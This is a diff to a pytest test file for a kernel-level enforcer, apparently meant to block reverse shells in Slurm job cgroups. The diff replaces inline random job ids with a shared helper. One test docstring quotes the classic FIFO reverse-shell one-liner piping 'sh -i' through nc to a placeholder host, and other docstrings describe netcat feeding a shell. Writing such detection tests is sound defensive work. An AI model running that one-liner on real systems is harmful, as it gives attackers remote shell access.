@@ -10,13 +10,12 @@ from __future__ import annotations
 
 import os
 import subprocess
-import uuid
 
 import pytest
 
 from gpuguard.v1 import policy_pb2 as ppb
 from lab import RELAY, CommandPeer, popen_in_cgroup, run_in_cgroup
-from tests.conftest import PYTHON, wait_for
+from tests.conftest import PYTHON, fresh_job_id, wait_for
 
 pytestmark = pytest.mark.kernel
 
@@ -41,7 +40,7 @@ def exec_seen(capture, pid: int, argv: list[str]) -> list[dict]:
 
 def test_shell_first_then_its_feeder_cannot_connect(capture, enforcer, test_cgroup, tmp_path):
     """sh reads a pipe; the process writing that pipe tries to connect out: EPERM, the peer sees nobody."""
-    job = str(2000 + uuid.uuid4().int % 999)
+    job = fresh_job_id()
     cg = test_cgroup(f"slurm/job_{job}")
     watch_shells(enforcer, job)
     marker = tmp_path / "pwned"
@@ -71,7 +70,7 @@ def test_shell_first_then_its_feeder_cannot_connect(capture, enforcer, test_cgro
 
 def test_feeder_first_then_the_shell_is_killed_at_exec(capture, enforcer, test_cgroup, tmp_path):
     """The netcat connected and pipes the peer's command; a shell exec'd on the other end dies at exec."""
-    job = str(2000 + uuid.uuid4().int % 999)
+    job = fresh_job_id()
     cg = test_cgroup(f"slurm/job_{job}")
     watch_shells(enforcer, job)
     marker = tmp_path / "pwned"
@@ -98,7 +97,7 @@ def test_feeder_first_then_the_shell_is_killed_at_exec(capture, enforcer, test_c
 
 def test_fifo_loop_never_runs_the_peers_command(capture, enforcer, test_cgroup, tmp_path):
     """The classic `sh -i < F 2>&1 | nc host port > F`: whichever of the two starts first, the loop is cut."""
-    job = str(2000 + uuid.uuid4().int % 999)
+    job = fresh_job_id()
     cg = test_cgroup(f"slurm/job_{job}")
     watch_shells(enforcer, job)
     marker, fifo = tmp_path / "pwned", tmp_path / "f"
@@ -124,7 +123,7 @@ def test_fifo_loop_never_runs_the_peers_command(capture, enforcer, test_cgroup, 
 
 
 def test_monitor_mode_reports_and_lets_it_run(capture, enforcer, test_cgroup, tmp_path):
-    job = str(2000 + uuid.uuid4().int % 999)
+    job = fresh_job_id()
     cg = test_cgroup(f"slurm/job_{job}")
     watch_shells(enforcer, job, monitor=True)
     marker = tmp_path / "ran"
